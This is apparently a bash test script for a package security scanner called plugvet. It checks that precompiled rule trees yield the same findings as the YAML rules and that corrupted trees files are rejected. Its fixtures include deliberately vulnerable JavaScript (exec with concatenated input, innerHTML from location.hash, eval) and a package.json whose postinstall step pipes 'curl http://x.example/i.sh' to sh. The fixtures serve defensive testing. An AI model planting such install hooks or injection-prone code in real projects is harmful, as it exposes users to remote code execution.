#!/usr/bin/env bash
# The rule trees (scanner/rules/trees.h): the build stores the bundled
# pack's rule files already parsed, and a run takes an unchanged file's
# tree instead of running libyaml over it. The rules never depend on it:
# each case is compared with the same binary without the file (a copy of
# it in its own directory); a trees file that is truncated, corrupted, of
# another build or format version is refused with a note, and a bundled
# rule file changed since the build is read from its YAML, with a note.
# Timing is tools/bench's business.
. "$(dirname "$0")/lib.sh"
cd "$TMP"
trees="$PLUGVET_BIN/rule-trees"
check "the build made the rule trees next to the binary" test -s "$trees"
mkdir bin
cp "$PV" bin/plugvet
export PLUGVET_RULES="$top/rules" PLUGVET_TAINT_RULES="$top/taint-rules"
findings() { python3 - "$1" <<'PY'
import json, sys
out = []
for line in open(sys.argv[1]):
    o = json.loads(line)
    out += ["%s@%s:%d:%s" % (f["rule_id"], f["path"].split("!/")[-1], f["start_line"], f["message"])
            for f in o["findings"]]
print("\n".join(sorted(out)))
PY
}
# same NAME ARGS...: the findings with the trees and without are the same,
# and there are some
same() {
  local name=$1
  shift
  "$PV" scan --no-db --fail-on none --json with.jsonl --text /dev/null "$@" >/dev/null 2>&1
  bin/plugvet scan --no-db --fail-on none --json without.jsonl --text /dev/null "$@" >/dev/null 2>&1
  is "$(findings with.jsonl)" "$(findings without.jsonl)" "$name: the same findings as without trees"
  check "$name: some finding" test -n "$(findings with.jsonl)"
}

# ---- Every tree reads back as libyaml gave it --------------------------------
# `rules trees` compares each stored tree with libyaml's, node by node
# (types, lines, scalars): every key of every rule file, known to the loader
# or not yet, is in the file.
check "rules trees: the whole pack stored and read back equal" \
  "$PV" rules trees out.trees "$top/rules" "$top/taint-rules"
check "rules trees: OUT and a PATH are needed" ! "$PV" rules trees out.trees
check "rules trees: a YAML error is the build's error" sh -c \
  "printf 'rules: [\n' >bad.yaml; ! '$PV' rules trees x.trees bad.yaml 2>err.txt && grep -q 'bad.yaml:.*YAML syntax error' err.txt"

# ---- The same rules with and without ----------------------------------------
"$PV" rules list >with.txt 2>err.txt
bin/plugvet rules list >without.txt
is "$(cat with.txt)" "$(cat without.txt)" "rules list: the same with and without trees"
check "rules list: no note" test ! -s err.txt
"$PV" rules list --catalog >with.txt
bin/plugvet rules list --catalog >without.txt
check "rules list --catalog: the same with and without trees" cmp with.txt without.txt
"$PV" rules list "$top/taint-rules" >with.txt
bin/plugvet rules list "$top/taint-rules" >without.txt
check "rules list of the taint rules: the same" cmp with.txt without.txt

cat >a.js <<'J'
const { exec } = require('child_process');
function run(cmd) { exec('ls ' + cmd); }
document.body.innerHTML = location.hash;
J
cat >b.ts <<'T'
export function calc(expr: string): unknown {
  return eval(expr);
}
T
printf '{"name":"p","version":"1.0.0","scripts":{"postinstall":"curl http://x.example/i.sh | sh"}}\n' \
  >package.json
"$PV" scan -v --no-db --fail-on none --text /dev/null a.js 2>err.txt >/dev/null
check "a scan takes the bundled files' trees" grep -Eq '^plugvet: [0-9]+ rule files read from the rule trees' err.txt
bin/plugvet scan -v --no-db --fail-on none --text /dev/null a.js 2>err.txt >/dev/null
check "without the file: no tree taken" ! grep -q 'read from the rule trees' err.txt
check "without the file: no note either" ! grep -q 'note' err.txt
same "a javascript file" a.js
same "a batch of .js, .ts and package.json" a.js b.ts package.json
same "the batch with --taint" --taint a.js b.ts package.json
same "the rule test files of the pack" "$top/rules"
same "the taint rule test files with --taint" --taint "$top/taint-rules"
same "a tarball" "$top/tests/data/npm-registry/is-number-7.0.0.tgz" a.js
same "the malware samples" "$top/tests/data/malware"

# ---- A trees file refused: a note, the YAML parsed ---------------------------
refused() { # refused NAME WHY: bin/rule-trees is refused naming WHY
  bin/plugvet scan -v --no-db --fail-on none --json with.jsonl --text /dev/null a.js \
    >/dev/null 2>err.txt
  check "$1: refused as $2" grep -q "rule-trees: $2; the rule files are read from their YAML" err.txt
  check "$1: no tree taken" ! grep -q 'read from the rule trees' err.txt
  "$PV" scan --no-db --fail-on none --json want.jsonl --text /dev/null a.js >/dev/null 2>&1
  is "$(findings with.jsonl)" "$(findings want.jsonl)" "$1: the same findings"
}
cp "$trees" bin/rule-trees
bin/plugvet scan -v --no-db --fail-on none --text /dev/null a.js >/dev/null 2>err.txt
check "the trees copied beside the copy are used" grep -q 'read from the rule trees' err.txt
head -c 100000 "$trees" >bin/rule-trees
refused "a truncated file" "truncated or corrupted (checksum)"
head -c 100001 "$trees" >bin/rule-trees
refused "a file cut at an odd size" "truncated"
cp "$trees" bin/rule-trees
half=$(($(wc -c <"$trees") / 2))
[ "$(dd if="$trees" bs=1 skip=$half count=1 2>/dev/null)" = X ] && half=$((half + 1))
printf X | dd of=bin/rule-trees bs=1 seek=$half conv=notrunc 2>/dev/null
check "one byte changed" ! cmp -s "$trees" bin/rule-trees
refused "a changed byte" "truncated or corrupted (checksum)"
# craft OUT FIELD VALUE: the file with a header field changed and its
# checksum made again (trees.c digest), so that only that field is wrong
craft() { python3 - "$trees" bin/rule-trees "$@" <<'PY'
import struct, sys
d = bytearray(open(sys.argv[1], "rb").read())
field, value = sys.argv[3], sys.argv[4]
if field == "version":
    d[8:12] = struct.pack("<I", int(value))
elif field == "id":
    il = struct.unpack("<I", d[12:16])[0]
    d[16:16 + il] = value.encode().ljust(il, b"0")[:il]
elif field == "offset":  # the first entry's tree offset past the end
    il = struct.unpack("<I", d[12:16])[0]
    at = 16 + ((il + 3) & ~3) + 4 + 5 * 4
    d[at:at + 4] = struct.pack("<I", len(d) + 4000)
M = (1 << 64) - 1
body = bytes(d[:-8])
h = (0x9e3779b97f4a7c15 ^ len(body)) & M
for i in range(0, len(body), 8):
    h = ((h ^ int.from_bytes(body[i:i + 8], "little")) * 0xff51afd7ed558ccd) & M
    h ^= h >> 32
d[-8:] = struct.pack("<Q", h)
open(sys.argv[2], "wb").write(d)
PY
}
craft version 7
refused "another format version" "another format version (7, this build reads 1)"
craft id 0123456789abcdef
refused "another build" "stale: made by another build of plugvet"
craft offset 0
refused "an offset past the end (checksum made again)" "corrupted entry 0"
printf 'rules: []\n' >bin/rule-trees
refused "not a trees file" "not a regular file of 24 to [0-9]* bytes"
head -c 4096 /dev/zero >bin/rule-trees
refused "zeros" "not a rule trees file"
rm bin/rule-trees

# ---- A bundled file changed since the build: its YAML, with a note -----------
cp -R "$top/rules" rules
f=$(grep -l 'exec-non-literal' rules/js/*.yaml | head -n 1)
python3 - "$f" <<'PY'
import sys
p = sys.argv[1]
s = open(p).read()
s = s.replace("id: js.command-injection.exec-non-literal\n", "id: js.command-injection.exec-non-literal-edited\n", 1)
open(p, "w").write(s)
PY
PLUGVET_RULES="$TMP/rules" "$PV" scan -v --no-db --fail-on none --json with.jsonl --text /dev/null \
  a.js >/dev/null 2>err.txt
check "a changed bundled file: noted" \
  grep -q "note: 1 bundled rule file changed since the build (.*$(basename "$f")): read from YAML" err.txt
check "a changed bundled file: the others' trees taken" grep -q 'read from the rule trees' err.txt
check "a changed bundled file: its new rule id is used" grep -q 'exec-non-literal-edited' with.jsonl
check "a changed bundled file: not its old one" ! grep -q 'exec-non-literal"' with.jsonl
PLUGVET_RULES="$TMP/rules" bin/plugvet scan --no-db --fail-on none --json without.jsonl \
  --text /dev/null a.js >/dev/null 2>&1
is "$(findings with.jsonl)" "$(findings without.jsonl)" "a changed bundled file: the same findings as without trees"
PLUGVET_RULES="$TMP/rules" "$PV" scan -q --no-db --fail-on none --text /dev/null a.js \
  >/dev/null 2>err.txt
check "a changed bundled file: -q keeps quiet" test ! -s err.txt
done_testing
